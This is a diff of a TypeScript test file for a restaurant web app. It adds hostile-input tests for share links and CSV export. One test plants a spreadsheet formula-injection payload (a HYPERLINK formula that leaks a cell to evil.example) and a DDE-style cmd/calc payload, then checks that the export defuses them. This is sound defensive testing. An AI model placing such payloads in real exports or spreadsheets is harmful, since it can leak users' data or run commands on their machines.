@@ -1,7 +1,7 @@
 import { env, SELF } from "cloudflare:test";
 import Papa from "papaparse";
-import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { cuisineSlug } from "../../app/lib/slug";
+import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
+import { cuisineSlug } from "~/lib/slug";
 import {
   accountFormProbes,
   authFormProbes,
@@ -21,8 +21,9 @@ import {
   type Probe,
 } from "../fixtures/hostile/probe";
 import { cookieProbes, headerProbes } from "../fixtures/hostile/shapes";
-import { createAccount, PASSWORD, signedInAs } from "./auth-helpers";
-import { dataVersion, deliver, job, seedFixtures, stagedRowCount } from "./import-support";
+import { shareCodeProbes, slugListProbes, tenThousandSlugShare } from "../fixtures/hostile/share-probes";
+import { createAccount, PASSWORD, signedInAs } from "./support/auth-helpers";
+import { dataVersion, deliver, job, seedFixtures, stagedRowCount } from "./support/import-support";
 
 /** Every case of the public csv-spectrum suite (a devDependency), as text. */
 const spectrum = import.meta.glob<string>("/node_modules/csv-spectrum/csvs/*.csv", {
@@ -40,6 +41,8 @@ const CHECKED_TABLES = [
   "sessions",
   "user_roles",
   "saved_restaurants",
+  "been_restaurants",
+  "shared_lists",
   "import_jobs",
   "restaurants",
   "newest_restaurants",
@@ -307,6 +310,62 @@ describe("hostile form posts", SWEEP, () => {
   });
 });
 
+describe("hostile share links and exports", SWEEP, () => {
+  it("a hostile share code, in every shape, gets the clear not-found page", async () => {
+    const probes = shareCodeProbes();
+    const problems: string[] = [];
+    for (const probe of probes) {
+      const { status, body, problems: found } = await send(probe);
+      problems.push(...found);
+      if (status !== 404) problems.push(`${probe.label} → ${status}, not 404`);
+      if (!body.includes("There is no shared list at this link.")) problems.push(`${probe.label} → no clear message`);
+    }
+    expect(problems).toEqual([]);
+  });
+
+  it("a 10,000-slug share request is refused with 400, saying why, and stores nothing", async () => {
+    const before = await checksum();
+    const { status, body, problems } = await send(tenThousandSlugShare());
+    expect(problems).toEqual([]);
+    expect(status).toBe(400);
+    expect(JSON.parse(body)).toEqual({ error: "A list holds at most 500 restaurants; this one has 10,000." });
+    expect(await checksum()).toBe(before);
+  });
+
+  it("hostile slugs and scopes in shares, saved-list exports and progress counts are answered cleanly", async () => {
+    expect(await sweep(slugListProbes())).toEqual([]);
+  });
+
+  it("a CSV export of a restaurant whose name starts with '=' comes out with the cell defused", async () => {
+    const hostile = '=HYPERLINK("https://evil.example/?leak="&A1,"Bestia")';
+    await env.DB.prepare("UPDATE restaurants SET name = ?, description = ? WHERE slug = 'bestia'")
+      .bind(hostile, "@SUM(1+1)*cmd|' /C calc'!A0")
+      .run();
+    snapshot = null;
+    try {
+      const exports = [
+        await SELF.fetch(`${ORIGIN}/export/csv?cuisine=italian`),
+        await SELF.fetch(`${ORIGIN}/export/csv`, {
+          method: "POST",
+          body: new URLSearchParams({ slugs: "bestia" }),
+          headers: sameOrigin(),
+        }),
+      ];
+      for (const response of exports) {
+        expect(response.status).toBe(200);
+        const [row] = Papa.parse<Record<string, string>>(await response.text(), { header: true }).data;
+        expect(row.Name).toBe(`'${hostile}`);
+        expect(row.Description).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
+      }
+    } finally {
+      await env.DB.prepare("UPDATE restaurants SET name = 'Bestia', description = ? WHERE slug = 'bestia'")
+        .bind("Roman-leaning Italian in a warehouse.")
+        .run();
+      snapshot = null;
+    }
+  });
+});
+
 const RANKED_LIST_HEADERS = ["Restaurant Name", "Cuisine", "Neighborhood", "Description", "Address"];
 
 /** A csv-spectrum case as a ranked list: its header renamed, its records untouched, one markup row added. */
@@ -334,12 +393,14 @@ function upload(fileName: string, content: string | Uint8Array<ArrayBuffer>, kin
 async function finish(id: string) {
   await deliver([id]);
   snapshot = null;
-  for (let i = 0; i < 50; i++) {
-    const found = await job(id);
-    if (found.status === "done" || found.status === "failed") return found;
-    await new Promise((resolve) => setTimeout(resolve, 100));
-  }
-  return job(id);
+  return vi.waitFor(
+    async () => {
+      const found = await job(id);
+      if (found.status !== "done" && found.status !== "failed") throw new Error(`the import is still ${found.status}`);
+      return found;
+    },
+    { timeout: 5_000, interval: 100 },
+  );
 }
 
 /** Uploads one file as an admin and runs its job; returns what went wrong. */
